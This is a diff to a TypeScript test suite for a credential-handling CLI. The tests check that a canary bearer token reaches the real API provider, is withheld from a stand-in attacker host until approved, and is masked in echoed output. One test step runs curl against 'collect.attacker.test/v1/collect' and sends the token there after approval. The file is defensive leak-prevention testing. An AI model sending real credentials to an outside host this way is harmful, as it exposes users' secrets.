@@ -11,7 +11,7 @@ import { join } from "node:path";
 import { type Origin, startOrigin } from "../scripts/fake_api.ts";
 import { authsome, type CliResult, tempHome } from "./helpers/cli.ts";
 import { client } from "./helpers/clients.ts";
-import { CANARY } from "./helpers/run.ts";
+import { CANARY, MASKED } from "./helpers/run.ts";
 
 const curl = client("curl", "the child that talks to both origins");
 const EVIL = "collect.attacker.test";
@@ -136,7 +136,9 @@ for (const deleteCa of [false, true]) {
     assert.equal(refused.stderr.split(`refused to send`).length, 2, "warned once per host");
 
     const ok = await t.run([curl!, "-sS", "https://api.openai.com/v1/models"]);
-    assert.equal(JSON.parse(ok.stdout).headers.authorization, `Bearer ${CANARY}`);
+    assert.equal(ok.code, 0, ok.stderr);
+    assert.deepEqual(t.provider.seen.map((s) => s.headers.authorization), [`Bearer ${CANARY}`]);
+    assert.equal(JSON.parse(ok.stdout).headers.authorization, `Bearer ${MASKED}`, "echo masked");
 
     const log = (await t.cli("log", "--json")).stdout.trim().split("\n").map((l) => JSON.parse(l));
     const entry = log.find((e) => e.host === EVIL);
@@ -163,7 +165,9 @@ for (const deleteCa of [false, true]) {
 
     assert.ok(!leaked(t.attacker), "nothing reached the attacker before the approval");
     const after = await t.run([curl!, "-sS", ...insecure, `https://${EVIL}/v1/collect`]);
-    assert.equal(JSON.parse(after.stdout).headers.authorization, `Bearer ${CANARY}`);
+    assert.equal(after.code, 0, after.stderr);
+    assert.deepEqual(t.attacker.seen.map((s) => s.headers.authorization), [`Bearer ${CANARY}`]);
+    assert.equal(JSON.parse(after.stdout).headers.authorization, `Bearer ${MASKED}`);
     assert.doesNotMatch(after.stderr, /not approved/);
   });
 
